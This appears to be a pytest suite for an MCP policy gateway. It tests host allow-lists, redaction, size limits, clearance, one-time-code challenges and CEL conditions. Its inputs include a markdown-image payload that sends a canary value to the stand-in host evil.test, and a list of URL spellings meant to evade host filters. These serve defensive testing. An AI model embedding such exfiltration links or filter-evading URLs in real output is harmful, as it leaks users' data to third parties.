"""What must be done to the calls that pass: members redacted, hosts and sizes bounded, clearance and codes
asked for. In both kinds of answer, and with official clients on either side."""

from __future__ import annotations

import json

import pytest
from e2e.harness.clients import SESSION_ERA, STATELESS_ERA
from e2e.harness.envoy import Route
from e2e.harness.raw import Trial
from e2e.harness.wire import call, post
from e2e.policies import policy
from fixtures.canaries import VALUE, github_token
from fixtures.upstream import event, json_reply, sse_reply, text_result

pytestmark = pytest.mark.filter
BOTH = pytest.mark.parametrize("http", [1, 2])
KINDS = pytest.mark.parametrize("kind", ["json", "sse"])


def obliged(*obligations, **more):
    return policy(default="allow", obligations=list(obligations), **more)


def answering(upstream, kind, message):
    upstream.script = lambda _: json_reply(message) if kind == "json" else sse_reply(event(message, id="3"))


def answer(got):
    """The one JSON-RPC message of an answer of either kind."""
    if "event-stream" in (got.get("content-type") or ""):
        [message] = got.events
        return message
    return got.message


def rule_of(message):
    facts = message["result"]["_meta"] if "result" in message else {"dev.portcullis/decision": message["error"]["data"]}
    return facts["dev.portcullis/decision"]["rule"]


# === hosts ===

NET = {"id": "net", "egress": {"allow": ["example.com", "*.example.com"]}}
IMAGE = f"![x](https://evil.test/i.png?d={VALUE}) beside https://docs.example.com/"


@BOTH
@KINDS
def test_a_result_that_refers_to_another_host_is_blocked(gateway, upstream, http, kind):
    trial = Trial(gateway(obliged(NET)), upstream, http)
    answering(upstream, kind, text_result(1, IMAGE))
    message = answer(trial(post(call("read"))))
    text = message["result"]["content"][0]["text"]
    assert message["result"]["isError"] and "a host that is not allowed, at /result/content/0/text" in text
    assert "evil" not in json.dumps(message) and rule_of(message) == "obligation:net"
    assert trial.record["decision"] == "deny"
    answering(upstream, kind, text_result(1, "see https://docs.example.com/"))
    assert answer(trial(post(call("read"))))["result"]["content"][0]["text"] == "see https://docs.example.com/"


@BOTH
@KINDS
def test_the_reference_is_redacted_and_the_rest_goes_on(gateway, upstream, http, kind):
    egress = {**NET["egress"], "action": "redact"}
    trial = Trial(gateway(obliged({"id": "net", "egress": egress})), upstream, http)
    answering(upstream, kind, text_result(1, IMAGE))
    text = answer(trial(post(call("read"))))["result"]["content"][0]["text"]
    assert text == "![x]([REDACTED:net] beside https://docs.example.com/"
    assert trial.record["decision"] == "redact"


SPELLINGS = [
    "https://evil.test/x",
    "https://example.com@evil.test/",
    "https://example.com\\@evil.test/",
    "https://exаmple.com/",
    "//evil.test/x",
    "https:evil.test",
    "http://2130706433/",
    "https%3A%2F%2Fevil.test%2F",
    "evil.test/path",
]


@BOTH
@pytest.mark.parametrize("url", SPELLINGS)
def test_an_argument_that_refers_to_another_host_is_blocked(gateway, upstream, http, url):
    trial = Trial(gateway(obliged(NET)), upstream, http)
    message = trial(post(call("fetch", {"url": url}))).message
    assert message["result"]["isError"] and rule_of(message) == "obligation:net"
    assert upstream.untouched and "/params/arguments/url" in trial.record["reason"]
    [found] = trial.record["findings"]
    assert (found["scanner"], found["rule"], found["action"]) == ("egress", "net", "block")


# === members ===

PINS = {"id": "pins", "redact_arguments": ["**.pin"], "redact_result": ["/customer/ssn"]}


@BOTH
@KINDS
def test_members_are_redacted_both_ways(gateway, upstream, http, kind):
    trial = Trial(gateway(obliged(PINS)), upstream, http)
    customer = {"customer": {"ssn": VALUE, "name": "Ann"}}
    result = {"content": [{"type": "text", "text": json.dumps(customer)}], "structuredContent": customer}
    answering(upstream, kind, {"jsonrpc": "2.0", "id": 1, "result": result})
    message = answer(trial(post(call("get", {"card": {"pin": VALUE, "n": 1}, "text": "x"}))))
    clean = {"customer": {"ssn": "[REDACTED:pins]", "name": "Ann"}}
    assert message["result"]["structuredContent"] == clean
    assert json.loads(message["result"]["content"][0]["text"]) == clean
    sent = upstream.one.message["params"]["arguments"]
    assert sent == {"card": {"pin": "[REDACTED:pins]", "n": 1}, "text": "x"}
    record = trial.record
    assert record["decision"] == "redact" and "obligation:pins" in record["rules_fired"]


@pytest.mark.parametrize("client", [*SESSION_ERA, *STATELESS_ERA], ids=str)
def test_clients_survive_redacted_members(envoy, session_era, stateless_era, client):
    port = stateless_era if client in STATELESS_ERA else session_era
    plugin = obliged({"id": "users", "match": {"name": ["credentials"]}, "redact_result": ["user"]}, {"id": "t", "redact_arguments": ["text"]})
    url = envoy.gateway([Route(port)], plugin).url("/mcp")
    credentials, echo = client.run(url, [["call", "credentials", {}], ["call", "echo", {"text": "hi"}]])["outcomes"]
    assert credentials["result"]["structuredContent"]["user"] == "[REDACTED:users]"
    assert echo["result"]["content"][0]["text"] == "echo: [REDACTED:t]"


# === sizes ===


@BOTH
@KINDS
@pytest.mark.parametrize(
    ("limit", "result"),
    [
        ({"max_result_bytes": "1KiB"}, {"content": [{"type": "text", "text": "x" * 1100}]}),
        ({"max_result_items": 2}, {"content": [{"type": "text", "text": "x"}] * 3}),
        ({"max_result_rows": 2}, {"content": [{"type": "text", "text": json.dumps([{"a": n} for n in range(3)])}]}),
    ],
    ids=["bytes", "items", "rows"],
)
def test_a_result_that_is_too_large_is_refused(gateway, upstream, http, kind, limit, result):
    trial = Trial(gateway(obliged({"id": "small", "match": {"name": ["dump"]}, **limit})), upstream, http)
    answering(upstream, kind, {"jsonrpc": "2.0", "id": 1, "result": result})
    message = answer(trial(post(call("dump"))))
    assert message["result"]["isError"] and rule_of(message) == "obligation:small"
    assert "isError" not in answer(trial(post(call("other"))))["result"]


# === callers ===


def test_a_clearance_is_asked_for_and_hides_the_tool(gateway, upstream):
    level = {"id": "level", "match": {"name": ["payroll"]}, "require_clearance": "confidential"}
    trial = Trial(gateway(obliged(level)), upstream)
    message = trial(post(call("payroll"))).message
    assert rule_of(message) == "obligation:level" and upstream.untouched
    everybody = {"default": "confidential"}
    trial = Trial(gateway(obliged(level, clearance=everybody)), upstream)
    assert "isError" not in trial(post(call("payroll"))).message["result"]


@BOTH
def test_a_one_time_code_is_asked_for_and_goes_no_further(gateway, upstream, http):
    trial = Trial(gateway(obliged({"id": "mfa", "match": {"name": ["pay"]}, "require_mfa": True})), upstream, http)
    message = trial(post(call("pay"))).message
    facts = message["result"]["_meta"]["dev.portcullis/decision"]
    assert message["result"]["isError"] and facts["mfa"] == "required"
    assert "x-portcullis-mfa" in message["result"]["content"][0]["text"]
    wrong = trial(post(call("pay"), ("x-portcullis-mfa", "12"))).message
    assert "six to eight digits" in wrong["result"]["content"][0]["text"]
    for sent in (post(call("pay"), ("x-portcullis-mfa", "123456")), post(with_code("pay", "123456"))):
        message = trial(sent).message
        assert "MFA verification is not configured" in message["result"]["content"][0]["text"]
        assert upstream.untouched
        assert "123456" not in json.dumps(trial.record)
    trial(post(with_code("other", "123456"), ("x-portcullis-mfa", "123456")))
    assert upstream.one.message["params"]["_meta"] == {"progressToken": 7}
    assert upstream.one.get("x-portcullis-mfa") is None


def with_code(tool, code):
    message = call(tool)
    message["params"]["_meta"] = {"progressToken": 7, "io.portcullis/mfa": code}
    return message


@pytest.mark.parametrize("client", [*SESSION_ERA, *STATELESS_ERA], ids=str)
def test_clients_survive_the_challenge(envoy, session_era, stateless_era, client):
    port = stateless_era if client in STATELESS_ERA else session_era
    plugin = obliged({"id": "mfa", "match": {"name": ["credentials"]}, "require_mfa": True})
    url = envoy.gateway([Route(port)], plugin).url("/mcp")
    asked, fine = client.run(url, [["call", "credentials", {}], ["call", "echo", {"text": "hi"}]])["outcomes"]
    assert asked["result"]["isError"] and "one-time code" in asked["result"]["content"][0]["text"]
    assert fine["result"]["content"][0]["text"] == "echo: hi"


def test_page_loops_end_on_both_workers(gateway, upstream):
    trial = Trial(gateway(obliged({"id": "pages", "max_pages": "3/hour"})), upstream)
    passed = ["isError" not in trial(post(call("search", {"page": n}))).message["result"] for n in range(1, 8)]
    assert passed == [True] * 4 + [False] * 3


# === conditions ===


@BOTH
def test_conditions_in_cel_on_rules_and_obligations(gateway, upstream, http):
    rules = [
        {"id": "own", "when": "mcp.tool == 'pay' && args.amount <= 100 && now.getFullYear() > 2000", "action": "allow"},
        {"id": "no-night", "when": "args.night && environment == 'production'", "action": "deny"},
    ]
    level = {"id": "level", "when": "args.amount > 50", "require_clearance": "secret"}
    plugin = {**policy(*rules, obligations=[level]), "environment": "production"}
    trial = Trial(gateway(plugin), upstream, http)
    for arguments, expected in [
        ({"amount": 50, "night": False}, "allowed"),
        ({"amount": 51, "night": False}, "obligation:level"),
        ({"amount": 101, "night": False}, "default"),
        ({"amount": 50, "night": True}, "no-night"),
        # What cannot be evaluated: a rule that restricts matches, one that lets through does not.
        ({"amount": 50}, "no-night"),
        ({"amount": "50", "night": False}, "default"),
    ]:
        message = trial(post(call("pay", arguments))).message
        got = rule_of(message) if message["result"].get("isError") else "allowed"
        assert got == expected, arguments


def test_scanners_are_overridden_for_the_calls_of_an_obligation(gateway, upstream):
    trial = Trial(gateway(obliged({"id": "dlp", "match": {"name": ["vault"]}, "dlp": {"arguments": "log"}})), upstream)
    secret = {"text": f"token {github_token()}"}
    assert "isError" not in trial(post(call("vault", secret))).message["result"]
    assert trial.record["findings"][0]["action"] == "log"
    assert trial(post(call("echo", secret))).message["result"]["isError"]
